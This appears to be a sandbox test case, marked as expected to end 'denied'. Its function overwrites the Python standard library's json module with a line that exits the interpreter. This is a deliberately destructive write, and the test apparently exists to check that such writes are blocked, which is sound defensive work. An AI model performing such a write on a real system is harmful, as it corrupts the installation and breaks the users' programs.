# ends: denied
def run(ctx):
    import sys

    with open(sys.prefix + "/lib/python3.12/json/__init__.py", "w") as file:
        file.write("raise SystemExit")
